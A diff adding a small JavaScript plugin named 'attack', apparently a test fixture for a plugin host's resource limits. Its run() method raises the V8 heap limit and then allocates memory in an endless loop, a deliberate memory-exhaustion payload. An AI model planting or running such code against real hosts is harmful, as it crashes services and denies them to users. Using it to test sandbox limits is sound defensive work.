@@ -1,0 +1,12 @@
+export default {
+  metadata: { id: "attack", version: "1.0.0" },
+  onLoad(context) {
+    context.services.provide("attack", {
+      run() {
+        process.getBuiltinModule("node:v8").setFlagsFromString("--max-old-space-size=4096");
+        const kept = [];
+        for (;;) kept.push(new Array(1e5).fill(1.5));
+      },
+    });
+  },
+};
